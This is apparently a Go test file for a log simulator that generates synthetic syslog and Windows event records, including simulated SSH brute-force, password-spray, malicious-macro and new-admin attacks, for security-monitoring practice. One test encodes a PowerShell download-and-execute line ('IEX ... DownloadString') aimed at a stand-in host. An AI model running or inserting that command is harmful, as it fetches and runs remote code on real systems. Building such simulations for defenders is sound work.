package simulate

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"io"
	"log/slog"
	"math/rand/v2"
	"net/netip"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/vigil-soc/vigil/internal/golden"
)

func TestSimClock(t *testing.T) {
	t.Parallel()
	real0 := time.Date(2025, 3, 4, 12, 0, 0, 0, time.UTC)
	start := real0.Add(-time.Hour)
	for _, tc := range []struct {
		name    string
		elapsed time.Duration
		speed   float64
		want    time.Time
		capped  bool
	}{
		{"at start", 0, 60, start, false},
		{"accelerated", 30 * time.Second, 60, start.Add(30 * time.Minute), false},
		{"just before catch-up", 61 * time.Second, 60, start.Add(61 * time.Minute), false},
		{"caught up: real time", 62 * time.Second, 60, real0.Add(62 * time.Second), true},
		{"long after: still real time", time.Hour, 60, real0.Add(time.Hour), true},
		{"slow never catches up", time.Hour, 0.5, start.Add(30 * time.Minute), false},
	} {
		got, capped := simClock(start, real0, tc.speed, real0.Add(tc.elapsed))
		if !got.Equal(tc.want) || capped != tc.capped {
			t.Errorf("%s: got %s capped=%v, want %s capped=%v", tc.name, got, capped, tc.want, tc.capped)
		}
	}
}

func TestSyslogFormats(t *testing.T) {
	t.Parallel()
	at := time.Date(2025, 3, 4, 9, 5, 7, 123456000, time.UTC)
	for _, tc := range []struct {
		got, want string
	}{
		{string(format5424(38, at, "bastion-01", "sshd", 2390, "Failed password for root from 203.0.113.50 port 40022 ssh2")),
			"<38>1 2025-03-04T09:05:07.123456Z bastion-01 sshd 2390 - - Failed password for root from 203.0.113.50 port 40022 ssh2"},
		{string(format5424(85, at, "web-01", "sudo", 0, sudoLine("alice", "/home/alice", "/usr/bin/id"))),
			"<85>1 2025-03-04T09:05:07.123456Z web-01 sudo - - -    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id"},
		{string(format3164(22, at, "mail-01", "postfix/qmgr", 812, "3F2A81C0042: removed")),
			"<22>Mar  4 09:05:07 mail-01 postfix/qmgr[812]: 3F2A81C0042: removed"},
		{string(format3164(30, at.Add(10*24*time.Hour), "db-01", "kernel", 0, "eth0: link up")),
			"<30>Mar 14 09:05:07 db-01 kernel: eth0: link up"},
	} {
		if tc.got != tc.want {
			t.Errorf("got  %q\nwant %q", tc.got, tc.want)
		}
	}
}

func TestOfficeLoad(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		at   string
		want float64
	}{
		{"2025-03-04T10:00:00Z", 1},    // Tuesday morning
		{"2025-03-04T12:30:00Z", 0.6},  // lunch
		{"2025-03-04T03:00:00Z", 0.04}, // night
		{"2025-03-04T18:30:00Z", 0.35}, // evening
		{"2025-03-08T10:00:00Z", 0.1},  // Saturday
		{"2025-03-09T23:00:00Z", 0.03}, // Sunday night
	} {
		at, _ := time.Parse(time.RFC3339, tc.at)
		if got := officeLoad(at); got != tc.want {
			t.Errorf("officeLoad(%s) = %v, want %v", tc.at, got, tc.want)
		}
	}
}

func TestFirstTick(t *testing.T) {
	t.Parallel()
	start := time.Date(2025, 3, 4, 9, 20, 0, 0, time.UTC)
	for _, tc := range []struct {
		period, offset time.Duration
		want           string
	}{
		{time.Hour, 17 * time.Minute, "2025-03-04T10:17:00Z"},
		{time.Hour, 25 * time.Minute, "2025-03-04T09:25:00Z"},
		{10 * time.Minute, 0, "2025-03-04T09:20:00Z"},
		{30 * time.Minute, 9 * time.Minute, "2025-03-04T09:39:00Z"},
	} {
		if got := firstTick(start, tc.period, tc.offset).Format(time.RFC3339); got != tc.want {
			t.Errorf("firstTick(%s, %s) = %s, want %s", tc.period, tc.offset, got, tc.want)
		}
	}
}

func TestRetryAfter(t *testing.T) {
	t.Parallel()
	now := time.Date(2025, 3, 4, 9, 0, 0, 0, time.UTC)
	for _, tc := range []struct {
		v    string
		want time.Duration
	}{
		{"", 0}, {"1", time.Second}, {" 30 ", 30 * time.Second}, {"-5", 0}, {"soon", 0},
		{"Tue, 04 Mar 2025 09:00:07 GMT", 7 * time.Second},
		{"Tue, 04 Mar 2025 08:59:00 GMT", 0},
	} {
		if got := retryAfter(tc.v, now); got != tc.want {
			t.Errorf("retryAfter(%q) = %s, want %s", tc.v, got, tc.want)
		}
	}
}

func TestBulkOutcome(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		resp         string
		n, ok, rejed int
	}{
		{`{"took":1,"errors":false,"items":[{"create":{"status":201}}]}`, 1, 1, 0},
		{`{"errors":true,"items":[{"create":{"status":201}},{"create":{"status":400,"error":{"type":"mapper_parsing_exception"}}}]}`, 2, 1, 1},
		{`not json`, 3, 3, 0},
		{`{"errors":true,"items":[{"create":{"status":400}},{"create":{"status":400}}]}`, 1, 0, 1},
	} {
		ok, rej := bulkOutcome([]byte(tc.resp), tc.n)
		if ok != tc.ok || rej != tc.rejed {
			t.Errorf("bulkOutcome(%s) = %d, %d; want %d, %d", tc.resp, ok, rej, tc.ok, tc.rejed)
		}
	}
}

func TestEncodedCommand(t *testing.T) {
	t.Parallel()
	const script = "IEX (New-Object Net.WebClient).DownloadString('https://update-check.example.org/a')"
	raw, err := base64.StdEncoding.DecodeString(encodedCommand(script))
	if err != nil || len(raw)%2 != 0 {
		t.Fatalf("not base64 of UTF-16: %v", err)
	}
	u := make([]uint16, len(raw)/2)
	for i := range u {
		u[i] = uint16(raw[2*i]) | uint16(raw[2*i+1])<<8
	}
	if got := string(utf16.Decode(u)); got != script {
		t.Errorf("decoded %q, want %q", got, script)
	}
}

func TestEventDataKeepsOrder(t *testing.T) {
	t.Parallel()
	b, err := json.Marshal(eventData{{"Z", `a"b`}, {"A", `C:\x`}})
	if err != nil || string(b) != `{"Z":"a\"b","A":"C:\\x"}` {
		t.Errorf("got %s, %v", b, err)
	}
}

// TestCompanyTable checks the inventory every behaviour relies on.
func TestCompanyTable(t *testing.T) {
	t.Parallel()
	co := defaultCompany()
	subnets := map[string]string{"linux": "10.10.1.0/24", "dc": "10.10.2.0/24", "fs": "10.10.2.0/24", "workstation": "10.10.3.0/24"}
	seen := map[string]bool{}
	for _, h := range co.hosts {
		key := h.role
		if h.os == "linux" {
			key = "linux"
		}
		ip := netip.MustParseAddr(h.ip)
		if !netip.MustParsePrefix(subnets[key]).Contains(ip) || seen[h.ip] {
			t.Errorf("%s: address %s outside %s or repeated", h.name, h.ip, subnets[key])
		}
		seen[h.ip] = true
		if (h.os == "windows") != (h.via == viaBulk) || (h.role == "workstation") != (co.person(h.owner) != nil) {
			t.Errorf("%s: transport %s or owner %q wrong", h.name, h.via, h.owner)
		}
	}
	for _, name := range []string{"web-01", "web-02", "db-01", "mail-01", "bastion-01", "dc-01", "fs-01", beaconHost} {
		if co.host(name) == nil {
			t.Errorf("host %s missing", name)
		}
	}
	docs := []string{"203.0.113.0/24", "198.51.100.0/24"}
	for _, ip := range append(append(append([]string{sprayIP, beaconIP}, co.scanners...), co.bruteForcers...), co.mailPeers[0].ip) {
		a := netip.MustParseAddr(ip)
		if !netip.MustParsePrefix(docs[0]).Contains(a) && !netip.MustParsePrefix(docs[1]).Contains(a) {
			t.Errorf("external address %s is not in a documentation range", ip)
		}
	}
	if co.person(sprayWinner) == nil || co.host("ws-03").owner == "" {
		t.Error("attack actors missing from the tables")
	}
}

// testWorld is a world whose senders are plain queues the test drains.
func testWorld(seed uint64) *world {
	c := &counters{}
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	out := &outputs{syslog: map[string]*lineSender{}, bulk: &bulkSender{ch: make(chan []byte, 1<<16), c: c, log: log}}
	co := defaultCompany()
	for _, h := range co.hosts {
		if h.os == "linux" {
			out.syslog[h.name] = &lineSender{host: h.name, via: h.via, ch: make(chan []byte, 1<<16), c: c, log: log}
		}
	}
	return newWorld(co, rand.New(rand.NewPCG(seed, seed)), out, log, c)
}

func drain(ch chan []byte) []string {
	var out []string
	for {
		select {
		case b := <-ch:
			out = append(out, string(b))
		default:
			return out
		}
	}
}

// TestAttackGolden pins the exact records of the attacks, as a reviewer
// reads them: Debian sshd/sudo lines and Winlogbeat documents.
func TestAttackGolden(t *testing.T) {
	t.Parallel()
	t0 := time.Date(2025, 3, 4, 10, 0, 0, 0, time.UTC)
	w := testWorld(42)
	w.at(t0, func(at time.Time) { w.sshBruteForce(at, 0) })
	w.runUntil(t0.Add(10 * time.Minute))
	sshLines := strings.Join(drain(w.out.syslog["bastion-01"].ch), "\n") + "\n"
	golden.Check(t, filepath.Join("testdata", "ssh_brute_force.golden"), []byte(sshLines))

	w = testWorld(42)
	w.at(t0, func(at time.Time) { w.passwordSpray(at, 0) })
	w.at(t0.Add(time.Hour), func(at time.Time) { w.maliciousMacro(at, 0) })
	w.at(t0.Add(2*time.Hour), func(at time.Time) { w.newLocalAdmin(at, 0) })
	w.runUntil(t0.Add(2*time.Hour + 10*time.Minute))
	docs := drain(w.out.bulk.ch)
	var buf bytes.Buffer
	for _, d := range docs {
		if !json.Valid([]byte(d)) {
			t.Fatalf("invalid JSON: %s", d)
		}
		buf.WriteString(d + "\n")
	}
	golden.Check(t, filepath.Join("testdata", "windows_attacks.golden.ndjson"), buf.Bytes())
}

func FuzzRetryAfter(f *testing.F) {
	for _, s := range []string{"", "1", "120", "Tue, 04 Mar 2025 09:00:07 GMT", "-1", "99999999999999999999"} {
		f.Add(s)
	}
	now := time.Date(2025, 3, 4, 9, 0, 0, 0, time.UTC)
	f.Fuzz(func(t *testing.T, v string) {
		if d := retryAfter(v, now); d < 0 {
			t.Errorf("retryAfter(%q) = %s, negative", v, d)
		}
	})
}

func FuzzBulkOutcome(f *testing.F) {
	f.Add([]byte(`{"errors":true,"items":[{"create":{"status":400}}]}`), 1)
	f.Add([]byte(`{"errors":false}`), 3)
	f.Add([]byte(`[]`), 0)
	f.Fuzz(func(t *testing.T, resp []byte, n int) {
		if n < 0 || n > 1<<20 {
			return
		}
		ok, rej := bulkOutcome(resp, n)
		if ok < 0 || rej < 0 || ok+rej != n {
			t.Errorf("bulkOutcome(%q, %d) = %d, %d", resp, n, ok, rej)
		}
	})
}
